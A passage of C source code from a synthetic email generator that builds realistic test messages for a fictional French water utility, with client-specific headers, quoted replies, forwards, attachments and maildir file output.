	const struct demo_person *p = demo_person((unsigned)parent->from);
	const char *email = demo_email(g, ctx, (unsigned)parent->from);
	const struct demo_phrases *ph = &demo_phrases[lang];
	struct demo_buf out;
	struct demo_tm tm;
	const char *date = demo_rfc5322_date(g, ctx, parent->when, zone, 0);

	demo_localtime(parent->when, zone, &tm);
	demo_buf_init(&out, ctx);
	if (client == DEMO_OUTLOOK) {
		bool old = demo_rng_pct(&g->rng, 50);

		if (lang == DEMO_FR) {
			demo_buf_puts(&out, old ? "-----Message d'origine-----\n" : "________________________________\n");
			demo_buf_printf(&out, "De : %s [mailto:%s]\nEnvoyé : %s %u %s %d %02u:%02u\nÀ : ",
					p->name, email, ph->days[tm.wday], tm.day, ph->months[tm.mon - 1],
					tm.year, tm.hour, tm.min);
		} else {
			demo_buf_puts(&out, old ? "-----Original Message-----\n" : "________________________________\n");
			demo_buf_printf(&out, "From: %s [mailto:%s]\nSent: %s, %s %u, %d %u:%02u %s\nTo: ",
					p->name, email, ph->days[tm.wday], ph->months[tm.mon - 1], tm.day,
					tm.year, tm.hour % 12 ? tm.hour % 12 : 12, tm.min,
					tm.hour >= 12 ? "PM" : "AM");
		}
		demo_names_line(g, &out, parent->to, parent->nto, parent->list, false);
		if (parent->ncc) {
			demo_buf_puts(&out, lang == DEMO_FR ? "\nCc : " : "\nCc: ");
			demo_names_line(g, &out, parent->cc, parent->ncc, -1, false);
		}
		demo_buf_printf(&out, "\n%s%s\n", lang == DEMO_FR ? "Objet : " : "Subject: ", parent->subject);
		return demo_buf_take(g, &out);
	}
	if (!forward)
		return demo_attribution(g, ctx, parent, client, lang, zone);
	switch (client) {
	case DEMO_THUNDERBIRD:
		demo_buf_printf(&out, "-------- %s --------\n%s%s\nDate : %s\n%s%s <%s>\n%s",
				lang == DEMO_FR ? "Message transféré" : "Forwarded Message",
				lang == DEMO_FR ? "Sujet : " : "Subject: ", parent->subject, date,
				lang == DEMO_FR ? "De : " : "From: ", p->name, email,
				lang == DEMO_FR ? "Pour : " : "To: ");
		break;
	case DEMO_WEBMAIL:
		demo_buf_printf(&out, "---------- %s ---------\n%s%s <%s>\nDate: %s\nSubject: %s\nTo: ",
				lang == DEMO_FR ? "Message transféré" : "Forwarded message",
				lang == DEMO_FR ? "De : " : "From: ", p->name, email, date, parent->subject);
		break;
	case DEMO_OLDWEB:
		demo_buf_printf(&out, "----- %s %s -----\n   Date : %s\n     %s%s <%s>\n    %s",
				lang == DEMO_FR ? "Message transféré de" : "Forwarded message from",
				email, date, lang == DEMO_FR ? "De : " : "From: ", p->name, email,
				lang == DEMO_FR ? "À : " : "To: ");
		break;
	default:
		demo_buf_printf(&out, "%s\n\n%s%s <%s>\n%s%s\nDate: %s\n%s",
				lang == DEMO_FR ? "Début du message réexpédié :" : "Begin forwarded message:",
				lang == DEMO_FR ? "De: " : "From: ", p->name, email,
				lang == DEMO_FR ? "Objet: " : "Subject: ", parent->subject, date,
				lang == DEMO_FR ? "À: " : "To: ");
		break;
	}
	demo_names_line(g, &out, parent->to, parent->nto, parent->list, true);
	if (client == DEMO_OLDWEB)
		demo_buf_printf(&out, "\n  %s%s", lang == DEMO_FR ? "Objet : " : "Subject: ", parent->subject);
	demo_buf_putc(&out, '\n');
	return demo_buf_take(g, &out);
}

/* The text of a parent cut to the lines a reply keeps. */
static char *
demo_cut_lines(struct demo_gen *g, TALLOC_CTX *ctx, const char *text, unsigned max)
{
	const char *p = text;

	for (unsigned n = 0; *p && n < max; n++) {
		const char *nl = strchr(p, '\n');

		p = nl ? nl + 1 : p + strlen(p);
	}
	{
		char *r = talloc_strndup(ctx, text, (size_t)(p - text));

		if (!r) {
			g->oom = true;
			return (char *)"";
		}
		return r;
	}
}

/* ---------------------------------------------------------------- writing files */

static uint32_t
demo_fnv1a(const char *p, size_t n)
{
	uint32_t h = 2166136261u;

	for (size_t i = 0; i < n; i++) {
		h ^= (unsigned char)p[i];
		h *= 16777619u;
	}
	return h;
}

/* Writes one message as cur/<seq>.<hash>.demo:2, never replacing a file. */
static trawl_status_t
demo_write_file(struct demo_gen *g, struct demo_buf *msg)
{
	char *path;
	int fd;

	if (msg->oom || g->oom)
		return TRAWL_NOMEM;
	if (msg->len == 0 || msg->p[msg->len - 1] != '\n')
		demo_buf_putc(msg, '\n');
	if (msg->oom)
		return TRAWL_NOMEM;
	path = talloc_asprintf(g->root, "%s/cur/%06u.%08x.demo:2,", g->dir, g->seq + 1,
			       demo_fnv1a(msg->p, msg->len));
	if (!path)
		return TRAWL_NOMEM;
	fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
	if (fd < 0) {
		g->io_error = talloc_asprintf(g->root, "%s: %s", path, strerror(errno));
		talloc_free(path);
		return TRAWL_IO;
	}
	if (util_write_all(fd, msg->p, msg->len) != 0) {
		g->io_error = talloc_asprintf(g->root, "%s: %s", path, strerror(errno));
		close(fd);
		unlink(path);
		talloc_free(path);
		return TRAWL_IO;
	}
	if (close(fd) != 0) {
		g->io_error = talloc_asprintf(g->root, "%s: %s", path, strerror(errno));
		unlink(path);
		talloc_free(path);
		return TRAWL_IO;
	}
	talloc_free(path);
	g->seq++;
	return TRAWL_OK;
}

/* Remembers an ordinary message so that a later duplicate can copy it. */
static void
demo_remember(struct demo_gen *g, const struct demo_buf *msg)
{
	talloc_free(g->last);
	g->last = talloc_memdup(g->root, msg->p, msg->len);
	g->last_len = g->last ? msg->len : 0;
	if (!g->last)
		g->oom = true;
}

/* ---------------------------------------------------------------- headers of thread messages */

enum demo_hdr {
	DEMO_H_END,
	DEMO_H_FROM,
	DEMO_H_TO,
	DEMO_H_CC,
	DEMO_H_SUBJECT,
	DEMO_H_DATE,
	DEMO_H_ID,
	DEMO_H_IRT,
	DEMO_H_REFS,
	DEMO_H_MIME,
	DEMO_H_MAILER,
	DEMO_H_LIST,
	DEMO_H_EXTRA,
};

/* The order each program writes its headers in; the MIME entity headers always follow. */
static const unsigned char demo_hdr_order[DEMO_CLIENTS][13] = {
	[DEMO_OUTLOOK] = {DEMO_H_FROM, DEMO_H_TO, DEMO_H_CC, DEMO_H_SUBJECT, DEMO_H_DATE, DEMO_H_ID,
			  DEMO_H_REFS, DEMO_H_IRT, DEMO_H_MIME, DEMO_H_MAILER, DEMO_H_EXTRA, DEMO_H_LIST},
	[DEMO_THUNDERBIRD] = {DEMO_H_SUBJECT, DEMO_H_TO, DEMO_H_CC, DEMO_H_REFS, DEMO_H_FROM,
			      DEMO_H_ID, DEMO_H_DATE, DEMO_H_MAILER, DEMO_H_MIME, DEMO_H_IRT,
			      DEMO_H_LIST, DEMO_H_EXTRA},
	[DEMO_APPLE] = {DEMO_H_FROM, DEMO_H_MIME, DEMO_H_SUBJECT, DEMO_H_DATE, DEMO_H_REFS,
			DEMO_H_TO, DEMO_H_CC, DEMO_H_IRT, DEMO_H_ID, DEMO_H_MAILER, DEMO_H_LIST,
			DEMO_H_EXTRA},
	[DEMO_WEBMAIL] = {DEMO_H_MIME, DEMO_H_REFS, DEMO_H_IRT, DEMO_H_FROM, DEMO_H_DATE, DEMO_H_ID,
			  DEMO_H_SUBJECT, DEMO_H_TO, DEMO_H_CC, DEMO_H_LIST, DEMO_H_EXTRA,
			  DEMO_H_MAILER},
	[DEMO_OLDWEB] = {DEMO_H_ID, DEMO_H_DATE, DEMO_H_FROM, DEMO_H_TO, DEMO_H_CC, DEMO_H_SUBJECT,
			 DEMO_H_REFS, DEMO_H_IRT, DEMO_H_MAILER, DEMO_H_MIME, DEMO_H_LIST,
			 DEMO_H_EXTRA},
	[DEMO_MOBILE] = {DEMO_H_FROM, DEMO_H_MIME, DEMO_H_SUBJECT, DEMO_H_ID, DEMO_H_DATE, DEMO_H_TO,
			 DEMO_H_CC, DEMO_H_REFS, DEMO_H_IRT, DEMO_H_MAILER, DEMO_H_LIST,
			 DEMO_H_EXTRA},
};

/* Upper-cases ASCII and Latin-1 letters of UTF-8 text, for Exchange's "DUBOIS Jérôme". */
static char *
demo_upper(struct demo_gen *g, TALLOC_CTX *ctx, const char *s, size_t n)
{
	char *r = talloc_strndup(ctx, s, n);

	if (!r) {
		g->oom = true;
		return (char *)"";
	}
	for (unsigned char *u = (unsigned char *)r; *u; u++) {
		if (*u >= 'a' && *u <= 'z')
			*u = (unsigned char)(*u - 'a' + 'A');
		else if (*u == 0xC3 && u[1] >= 0xA0 && u[1] <= 0xBE && u[1] != 0xB7)
			u[1] = (unsigned char)(u[1] - 0x20), u++;
	}
	return r;
}

static const char *
demo_display_name(struct demo_gen *g, TALLOC_CTX *ctx, int who, bool gal)
{
	const struct demo_person *p = demo_person((unsigned)who);
	const char *sp = strchr(p->name, ' ');

	if (!gal || !sp || p->org != DEMO_ORG_REVB)
		return p->name;
	return demo_printf(g, ctx, "%s %.*s", demo_upper(g, ctx, sp + 1, strlen(sp + 1)),
			   (int)(sp - p->name), p->name);
}

static char *
demo_addr_list(struct demo_gen *g, TALLOC_CTX *ctx, const int *who, unsigned n, int list,
	       const struct demo_fmt *f, bool gal)
{
	struct demo_buf out;

	demo_buf_init(&out, ctx);
	if (list >= 0) {
		demo_buf_printf(&out, "%s@%s", demo_lists[list].name, demo_list_domain);
		if (n)
			demo_buf_puts(&out, ", ");
	}
	for (unsigned i = 0; i < n; i++) {
		if (i)
			demo_buf_puts(&out, ", ");
		demo_put_addr(g, ctx, &out, demo_display_name(g, ctx, who[i], gal),
			      demo_email(g, ctx, (unsigned)who[i]), f);
	}
	return demo_buf_take(g, &out);
}

/* Return-Path, Delivered-To and Received, as the Régie's server added them. */
static void
demo_trace(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, const struct demo_msg *m)
{
	const struct demo_person *from = demo_person((unsigned)m->from);
	const char *rcpt = NULL;
	int64_t at = m->when + demo_rng_range(&g->rng, 2, 90);

	for (unsigned i = 0; i < m->nto && !rcpt; i++)
		if (demo_is_staff((unsigned)m->to[i]))
			rcpt = demo_email(g, ctx, (unsigned)m->to[i]);
	for (unsigned i = 0; i < m->ncc && !rcpt; i++)
		if (demo_is_staff((unsigned)m->cc[i]))
			rcpt = demo_email(g, ctx, (unsigned)m->cc[i]);
	if (!rcpt && m->list >= 0)
		rcpt = "direction@eaux-valbrenne.example";
	/* Mail sent by staff is often the sender's own copy, with no trace at all. */
	if (!rcpt || (from->org == DEMO_ORG_REVB && demo_rng_pct(&g->rng, 40)))
		return;
	if (m->list >= 0)
		demo_buf_printf(out, "Return-Path: <%s-bounces@%s>\n", demo_lists[m->list].name,
				demo_list_domain);
	else
		demo_buf_printf(out, "Return-Path: <%s>\n", demo_email(g, ctx, (unsigned)m->from));
	demo_buf_printf(out, "Delivered-To: %s\n", rcpt);
	if (m->list >= 0) {
		demo_buf_printf(out, "Received: from lists.eaux-valbrenne.example (lists.eaux-valbrenne.example"
				     " [192.0.2.30])\n\tby mx1.eaux-valbrenne.example (Postfix) with ESMTP"
				     " id %010llX\n\tfor <%s>; %s\n",
				(unsigned long long)(demo_rng_next(&g->rng) & 0xFFFFFFFFFFull), rcpt,
				demo_rfc5322_date(g, ctx, at, DEMO_TZ_PARIS, 1));
	} else if (from->org == DEMO_ORG_REVB) {
		demo_buf_printf(out, "Received: from SRV-EXCH01.revb.local (10.12.0.15) by SRV-EXCH02.revb.local\n"
				     " (10.12.0.16) with Microsoft SMTP Server id 14.3.319.2; %s\n",
				demo_rfc5322_date(g, ctx, at, DEMO_TZ_PARIS, 0));
	} else {
		const struct demo_org *o = &demo_orgs[from->org];

		demo_buf_printf(out, "Received: from %s (%s [198.51.100.%u])\n\tby mx1.eaux-valbrenne.example"
				     " (Postfix) with ESMTPS id %010llX\n\tfor <%s>; %s\n",
				o->mx, o->mx, from->org * 7 + 11,
				(unsigned long long)(demo_rng_next(&g->rng) & 0xFFFFFFFFFFull), rcpt,
				demo_rfc5322_date(g, ctx, at, DEMO_TZ_PARIS, 1));
		demo_buf_puts(out, "X-Virus-Scanned: amavisd-new at eaux-valbrenne.example\n");
		if (demo_rng_pct(&g->rng, 50)) {
			unsigned units = demo_rng_below(&g->rng, 3);

			demo_buf_printf(out, "X-Spam-Flag: NO\nX-Spam-Score: -%u.%u\n", units,
					demo_rng_below(&g->rng, 10));
		}
	}
}

static void
demo_list_headers(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out, int list)
{
	const struct demo_list *l = &demo_lists[list];
	struct demo_fmt f = {.hdr_enc = 'Q', .hdr_cs = DEMO_CS_UTF8, .hdr_label = "utf-8"};
	struct demo_buf id;

	demo_buf_init(&id, ctx);
	demo_put_phrase(g, ctx, &id, l->title, &f);
	demo_buf_printf(&id, " <%s.%s>", l->name, demo_list_domain);
	demo_header(out, "List-Id", demo_buf_str(&id));
	demo_buf_printf(out, "List-Unsubscribe: <https://%s/listinfo/%s>,\n"
			     " <mailto:%s-request@%s?subject=unsubscribe>\n",
			demo_list_domain, l->name, l->name, demo_list_domain);
	demo_buf_printf(out, "List-Archive: <https://%s/pipermail/%s/>\n", demo_list_domain, l->name);
	demo_buf_printf(out, "List-Post: <mailto:%s@%s>\n", l->name, demo_list_domain);
	demo_buf_printf(out, "List-Help: <mailto:%s-request@%s?subject=help>\n", l->name,
			demo_list_domain);
	demo_buf_printf(out, "Precedence: list\nX-BeenThere: %s@%s\nX-Mailman-Version: 2.1.23\n",
			l->name, demo_list_domain);
	demo_buf_printf(out, "Sender: \"%s\" <%s-bounces@%s>\n", l->name, l->name, demo_list_domain);
	if (id.oom)
		g->oom = true;
}

/* Outlook's Thread-Index: 22 bytes for the conversation, 5 more per reply. */
static char *
demo_thread_index(struct demo_gen *g, TALLOC_CTX *ctx, const struct demo_thread *th, unsigned depth)
{
	unsigned char raw[22 + 5 * DEMO_MAX_THREAD];
	size_t n = 22 + 5 * (size_t)(depth < DEMO_MAX_THREAD ? depth : DEMO_MAX_THREAD);
	struct demo_buf out;

	memcpy(raw, th->tindex, 22);
	for (size_t i = 22; i < n; i++)
		raw[i] = (unsigned char)demo_rng_next(&g->rng);
	demo_buf_init(&out, ctx);
	demo_base64(raw, n, 0, &out);
	return demo_buf_take(g, &out);
}

/* ---------------------------------------------------------------- thread messages */

static char *
demo_csv(struct demo_gen *g, TALLOC_CTX *ctx, const struct demo_env *env, unsigned rows)
{
	const struct demo_phrases *ph = &demo_phrases[env->lang];
	struct demo_buf out;

	demo_buf_init(&out, ctx);
	demo_buf_puts(&out, env->lang == DEMO_FR ? "Poste;Prévu (€);Réalisé (€);Taux;Commentaire\n"
						 : "Item,Planned (EUR),Actual (EUR),Rate,Comment\n");
	for (unsigned i = 0; i < rows; i++) {
		unsigned planned = demo_rng_range(&g->rng, 5, 900) * 1000;
		unsigned rate = demo_rng_range(&g->rng, 600, 1300);
		const char *row = demo_expand(g, ctx, env, demo_pick(g, &ph->table_rows));
		bool note = demo_rng_pct(&g->rng, 30);

		if (env->lang == DEMO_FR)
			demo_buf_printf(&out, "%s;%u;%u;%u,%u %%;%s\n", row, planned, planned / 1000 * rate,
					rate / 10, rate % 10, note ? "\"À revoir ; voir note\"" : "");
		else
			demo_buf_printf(&out, "%s,%u,%u,%u.%u%%,%s\n", row, planned, planned / 1000 * rate,
					rate / 10, rate % 10, note ? "\"To check, see note\"" : "");
	}
	return demo_buf_take(g, &out);
}

/* One attachment of a kind the topic allows, named from the topic's file names. */
static void
demo_make_attachment(struct demo_gen *g, TALLOC_CTX *ctx, const struct demo_topic *topic,
		     const struct demo_env *env, const struct demo_fmt *f, struct demo_att *a)
{
	unsigned kinds[5], nk = 0;
	struct demo_buf data;
	const char *base = demo_expand(g, ctx, env, demo_pick(g, &topic->files[env->lang]));
	unsigned kind;

	for (unsigned k = 0; k < 5; k++)
		if (topic->attach & (1u << k))
			kinds[nk++] = 1u << k;
	kind = nk ? kinds[demo_rng_below(&g->rng, nk)] : DEMO_ATT_PDF;
	memset(a, 0, sizeof(*a));
	demo_buf_init(&data, ctx);
	a->cte = DEMO_CTE_B64;
	a->name_style = f->name_style;
	switch (kind) {
	case DEMO_ATT_CSV: {
		const char *csv = demo_csv(g, ctx, env, demo_rng_range(&g->rng, 5, 40));
		bool utf8 = demo_rng_pct(&g->rng, 40);

		if (utf8)
			demo_buf_puts(&data, "\xef\xbb\xbf");
		demo_convert(csv, utf8 ? DEMO_CS_UTF8 : DEMO_CS_CP1252, &data);
		a->type = "text/csv";
		a->charset = utf8 ? "utf-8" : "windows-1252";
		a->cte = demo_rng_pct(&g->rng, 50) ? DEMO_CTE_B64 : DEMO_CTE_QP;
		a->name = demo_printf(g, ctx, "%s.csv", base);
		break;
	}
	case DEMO_ATT_DOCX:
		demo_make_office(g, &data, true, demo_rng_range(&g->rng, 6, 14) * 1024);
		a->type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
		a->name = demo_printf(g, ctx, "%s.docx", base);
		break;
	case DEMO_ATT_XLS:
		demo_make_office(g, &data, false, demo_rng_range(&g->rng, 10, 24) * 1024);
		a->type = "application/vnd.ms-excel";
		a->name = demo_printf(g, ctx, "%s.xls", base);
		break;
	case DEMO_ATT_PNG:
		demo_make_png(g, &data, 96, 72, true);
		a->type = "image/png";
		a->name = demo_printf(g, ctx, "%s.png", base);
		break;
	default: {
		const char *lines[6];
		unsigned n = demo_rng_range(&g->rng, 2, 6);

		for (unsigned i = 0; i < n; i++)
			lines[i] = demo_sentence(g, ctx, env, topic);
		demo_make_pdf(g, &data, base, lines, n, env->when, 0);
		a->type = f->html_style == DEMO_HTML_OUTLOOK && demo_rng_pct(&g->rng, 20)
				  ? "application/octet-stream"
				  : "application/pdf";
		a->name = demo_printf(g, ctx, "%s.pdf", base);
		break;
	}
	}
	a->data = demo_buf_take(g, &data);
	a->len = data.len;
}

/* Adds the quote of the parent: Outlook's header block, or an attribution and "> " lines. */
static void
demo_add_quote(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_doc *doc, const struct demo_msg *m,
	       const struct demo_msg *parent, enum demo_zone zone)
{
	if (m->client == DEMO_OUTLOOK) {
		demo_doc_add(doc, DEMO_B_ORIG,
			     demo_quoted_header(g, ctx, parent, m->client, m->lang, zone, false));
		demo_doc_add(doc, DEMO_B_LINES,
			     demo_cut_lines(g, ctx, parent->text, DEMO_QUOTE_LINES + 20));
	} else {
		demo_doc_add(doc, DEMO_B_PARA,
			     demo_attribution(g, ctx, parent, m->client, m->lang, zone));
		demo_doc_add(doc, DEMO_B_QUOTE, parent->text);
	}
}

/* The blocks of an ordinary message of a thread. */
static void
demo_compose(struct demo_gen *g, TALLOC_CTX *ctx, const struct demo_thread *th,
	     const struct demo_msg *m, bool no_euro, struct demo_doc *doc, bool *attach_parent)
{
	const struct demo_person *from = demo_person((unsigned)m->from);
	const struct demo_msg *parent = m->parent >= 0 ? &th->m[m->parent] : NULL;
	const struct demo_phrases *ph = &demo_phrases[m->lang];
	const struct demo_person *to0 = m->nto ? demo_person((unsigned)m->to[0]) : NULL;
	enum demo_zone zone = (enum demo_zone)from->zone;
	bool group = m->list >= 0 || m->nto > 1;
	bool formal = to0 && !parent && (to0->dept == DEMO_EXT) != (from->dept == DEMO_EXT);
	bool bottom = parent && m->kind == DEMO_REPLY &&
		      (m->client == DEMO_THUNDERBIRD || m->client == DEMO_OLDWEB) &&
		      demo_rng_pct(&g->rng, 35);
	uint64_t used = 0;
	struct demo_env env = {.lang = m->lang, .when = m->when, .no_euro = no_euro, .used = &used,
			       .first = to0 && !group ? demo_first_name(g, ctx, to0->name) : NULL};
	const char *first = demo_first_name(g, ctx, from->name);
	bool short_reply = false;

	*attach_parent = false;
	doc->n = 0;
	if (bottom) {
		demo_doc_add(doc, DEMO_B_PARA, demo_attribution(g, ctx, parent, m->client, m->lang, zone));
		demo_doc_add(doc, DEMO_B_QUOTE, parent->text);
	}
	if (m->kind == DEMO_FORWARD) {
		demo_doc_add(doc, DEMO_B_PARA, demo_expand(g, ctx, &env, demo_pick(g, &ph->forward)));
	} else {
		if (!bottom && !(parent && demo_rng_pct(&g->rng, 30))) {
			const struct demo_strings *greet = group ? &ph->greet_all
							   : formal ? &ph->greet_formal
								    : &ph->greet_one;

			demo_doc_add(doc, DEMO_B_PARA, demo_expand(g, ctx, &env, demo_pick(g, greet)));
		}
		if (parent && demo_rng_pct(&g->rng, 35))
			demo_doc_add(doc, DEMO_B_PARA, demo_expand(g, ctx, &env, demo_pick(g, &ph->ack)));
		short_reply = parent && demo_rng_pct(&g->rng, 25);
		if (short_reply) {
			demo_doc_add(doc, DEMO_B_PARA,
				     demo_expand(g, ctx, &env, demo_pick(g, &ph->short_reply)));
		} else {
			unsigned paras = demo_rng_range(&g->rng, 1, 3);
			unsigned left = th->topic->sentences[m->lang].n;

			/* No more sentences than the topic has, so none is said twice. */
			for (unsigned i = 0; i < paras && left; i++) {
				unsigned k = demo_rng_range(&g->rng, 1, 3);

				k = k < left ? k : left;
				left -= k;
				demo_doc_add(doc, DEMO_B_PARA, demo_paragraph(g, ctx, &env, th->topic, k));
			}
			if (th->topic->table && demo_rng_pct(&g->rng, 12))
				demo_doc_add(doc, DEMO_B_TABLE, demo_table(g, ctx, &env));
			if (th->topic->list == DEMO_LIST_CONSEIL && !parent && demo_rng_pct(&g->rng, 50)) {
				struct demo_buf items;
				unsigned n = demo_rng_range(&g->rng, 4, 7);

				demo_buf_init(&items, ctx);
				for (unsigned i = 0; i < n; i++)
					demo_buf_printf(&items, "%s%s", i ? "\n" : "",
							demo_expand(g, ctx, &env,
								    demo_pick(g, &ph->list_items)));
				demo_doc_add(doc, DEMO_B_LIST, demo_buf_take(g, &items));
			} else if (demo_rng_pct(&g->rng, 6)) {
				struct demo_buf items;
				unsigned n = demo_rng_range(&g->rng, 2, 4);

				demo_buf_init(&items, ctx);
				for (unsigned i = 0; i < n; i++)
					demo_buf_printf(&items, "%s%s", i ? "\n" : "",
							demo_sentence(g, ctx, &env, th->topic));
				demo_doc_add(doc, DEMO_B_LIST, demo_buf_take(g, &items));
			}
		}
		if (!short_reply && demo_rng_pct(&g->rng, 45))
			demo_doc_add(doc, DEMO_B_PARA, demo_expand(g, ctx, &env, demo_pick(g, &ph->closing)));
	}
	if (!short_reply || demo_rng_pct(&g->rng, 50))
		demo_doc_add(doc, DEMO_B_LINES,
			     demo_printf(g, ctx, "%s\n%s", demo_pick(g, &ph->signoff), first));
	if (m->client == DEMO_MOBILE)
		demo_doc_add(doc, DEMO_B_LINES, ph->mobile_sig);
	else if (demo_rng_pct(&g->rng, 75))
		demo_doc_add(doc, DEMO_B_SIG,
			     demo_signature(g, ctx, m->from,
					    m->client != DEMO_OUTLOOK || demo_rng_pct(&g->rng, 60)));
	if (parent && !bottom) {
		if (m->kind == DEMO_FORWARD) {
			unsigned pct = m->client == DEMO_THUNDERBIRD ? 70
				       : m->client == DEMO_OUTLOOK || m->client == DEMO_OLDWEB ? 25
											      : 0;

			*attach_parent = demo_rng_pct(&g->rng, pct);
			if (!*attach_parent) {
				demo_doc_add(doc, m->client == DEMO_OUTLOOK ? DEMO_B_ORIG : DEMO_B_LINES,
					     demo_quoted_header(g, ctx, parent, m->client, m->lang, zone,
								true));
				demo_doc_add(doc, DEMO_B_LINES,
					     demo_cut_lines(g, ctx, parent->text, DEMO_QUOTE_LINES + 20));
				if (m->client == DEMO_OLDWEB)
					demo_doc_add(doc, DEMO_B_LINES,
						     m->lang == DEMO_FR ? "----- Fin du message transféré -----"
									: "----- End forwarded message -----");
			}
		} else {
			demo_add_quote(g, ctx, doc, m, parent, zone);
		}
	}
	if (m->list >= 0)
		demo_doc_add(doc, DEMO_B_LINES,
			     demo_printf(g, ctx, "_______________________________________________\n"
						 "%s mailing list\n%s@%s\nhttps://%s/listinfo/%s",
					 demo_lists[m->list].name, demo_lists[m->list].name,
					 demo_list_domain, demo_list_domain, demo_lists[m->list].name));
}

static void
demo_emit_thread_headers(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_buf *out,
			 const struct demo_thread *th, const struct demo_msg *m,
			 const struct demo_fmt *f, bool gal)
{
	const struct demo_person *from = demo_person((unsigned)m->from);
	const struct demo_msg *parent = m->parent >= 0 ? &th->m[m->parent] : NULL;
	bool apple = m->client == DEMO_APPLE || m->client == DEMO_MOBILE;
	int date_style = m->client == DEMO_OLDWEB ? 1 : m->client == DEMO_MOBILE && demo_rng_pct(&g->rng, 10) ? 2 : 0;

	demo_trace(g, ctx, out, m);
	for (const unsigned char *h = demo_hdr_order[m->client]; *h != DEMO_H_END; h++) {
		switch (*h) {
		case DEMO_H_FROM: {
			struct demo_buf v;

			demo_buf_init(&v, ctx);
			demo_put_addr(g, ctx, &v, demo_display_name(g, ctx, m->from, gal),
				      demo_email(g, ctx, (unsigned)m->from), f);
			demo_header(out, "From", demo_buf_take(g, &v));
			break;
		}
		case DEMO_H_TO:
			if (m->nto || m->list >= 0)
				demo_header(out, "To", demo_addr_list(g, ctx, m->to, m->nto, m->list, f, gal));
			break;
		case DEMO_H_CC:
			if (m->ncc)
				demo_header(out, "Cc", demo_addr_list(g, ctx, m->cc, m->ncc, -1, f, gal));
			break;
		case DEMO_H_SUBJECT:
			demo_header(out, "Subject", demo_encode_text_header(g, ctx, m->subject, f));
			break;
		case DEMO_H_DATE:
			demo_header(out, "Date", demo_rfc5322_date(g, ctx, m->when,
								   (enum demo_zone)from->zone, date_style));
			break;
		case DEMO_H_ID:
			demo_buf_printf(out, "%s: <%s>\n", apple ? "Message-Id" : "Message-ID", m->id);
			break;
		case DEMO_H_IRT:
			if (parent && *m->refs)
				demo_buf_printf(out, "In-Reply-To: <%s>\n", parent->id);
			break;
		case DEMO_H_REFS:
			if (*m->refs)
				demo_header(out, "References", m->refs);
			break;
		case DEMO_H_MIME:
			if (f->bare)
				break;
			if (m->client == DEMO_APPLE)
				demo_buf_puts(out, "Mime-Version: 1.0 (Mac OS X Mail 9.3 \\(3124\\))\n");
			else if (m->client == DEMO_MOBILE)
				demo_buf_puts(out, "Mime-Version: 1.0 (1.0)\n");
			else
				demo_buf_puts(out, "MIME-Version: 1.0\n");
			break;
		case DEMO_H_MAILER: {
			const char *mailer = demo_mailer_header(g, m->client);

			if (mailer)
				demo_buf_printf(out, "%s\n", mailer);
			break;
		}
		case DEMO_H_LIST:
			if (m->list >= 0)
				demo_list_headers(g, ctx, out, m->list);
			break;
		case DEMO_H_EXTRA:
			if (m->client == DEMO_OUTLOOK) {
				demo_header(out, "Thread-Topic", demo_encode_text_header(g, ctx, th->base, f));
				demo_buf_printf(out, "Thread-Index: %s\n",
						demo_thread_index(g, ctx, th, m->depth));
				demo_buf_printf(out, "Content-Language: %s\n",
						m->lang == DEMO_FR ? "fr-FR" : "en-US");
				if (from->org == DEMO_ORG_REVB && demo_rng_pct(&g->rng, 50))
					demo_buf_puts(out, "X-MS-Has-Attach: \nX-MS-TNEF-Correlator: \n");
			} else if (m->client == DEMO_THUNDERBIRD) {
				if (from->org == DEMO_ORG_REVB)
					demo_header(out, "Organization",
						    demo_encode_text_header(g, ctx, demo_orgs[from->org].name, f));
				demo_buf_printf(out, "Content-Language: %s\n", m->lang == DEMO_FR ? "fr" : "en-GB");
			}
			break;
		default:
			break;
		}
	}
}

/* Smartens the text Word would have typed (not the quoted parts). */
static void
demo_doc_smarten(struct demo_gen *g, TALLOC_CTX *ctx, struct demo_doc *doc)
{
	for (unsigned i = 0; i < doc->n; i++)
		if (doc->b[i].kind == DEMO_B_PARA || doc->b[i].kind == DEMO_B_LIST)
			doc->b[i].text = demo_smarten(g, ctx, doc->b[i].text);
}

/* Composes, renders and writes message i of a thread. */
static trawl_status_t
demo_thread_write_msg(struct demo_gen *g, struct demo_thread *th, unsigned i)
{
	struct demo_msg *m = &th->m[i];
	TALLOC_CTX *ctx = talloc_new(th->ctx);
	struct demo_fmt f;
	struct demo_doc doc;
	struct demo_plain_style ps;
	struct demo_att atts[3], logo;
	unsigned natt = 0;
	bool attach_parent, gal;
	const char *html = NULL;
	struct demo_buf out;
	trawl_status_t st;

	if (!ctx)
		return TRAWL_NOMEM;
	demo_choose_fmt(g, m->client, m->lang, &f);
	/* Exchange shows colleagues as "DUBOIS Jérôme"; only the Régie's own Outlook does that. */
	gal = m->client == DEMO_OUTLOOK && demo_is_staff((unsigned)m->from) && demo_rng_pct(&g->rng, 50);
	demo_compose(g, ctx, th, m, f.cs == DEMO_CS_LATIN1, &doc, &attach_parent);
	if (f.smart)
		demo_doc_smarten(g, ctx, &doc);
	ps.wrap = f.wrap;
	ps.flowed = f.flowed;
	ps.bullet = m->client == DEMO_OUTLOOK || m->client == DEMO_APPLE ? "• " : "- ";
	m->text = demo_render_plain(g, th->ctx, &doc, &ps);
	if (f.html)
		html = demo_render_html(g, ctx, &doc, f.html_style, f.cs_label ? f.cs_label : "utf-8",
					f.cs == DEMO_CS_UTF8 ? 0x10FFFF : 0xFF,
					f.logo ? "image001.png@01D17ED9.4A3B2C10" : NULL);
	if (f.logo) {
		struct demo_buf png;

		demo_buf_init(&png, ctx);
		demo_make_png(g, &png, 48, 32, false);
		memset(&logo, 0, sizeof(logo));
		logo.type = "image/png";
		logo.name = "image001.png";
		logo.data = demo_buf_take(g, &png);
		logo.len = png.len;
		logo.cte = DEMO_CTE_B64;
		logo.cid = "image001.png@01D17ED9.4A3B2C10";
		logo.inline_part = true;
	}
	if (attach_parent) {
		memset(&atts[natt], 0, sizeof(atts[natt]));
		atts[natt].type = "message/rfc822";
		atts[natt].data = th->m[m->parent].raw;
		atts[natt].len = th->m[m->parent].raw_len;
		atts[natt].cte = DEMO_CTE_NONE;
		atts[natt].name = demo_printf(g, ctx, "%s.eml", th->m[m->parent].subject);
		atts[natt].name_style = f.name_style;
		atts[natt].inline_part = m->client == DEMO_THUNDERBIRD;
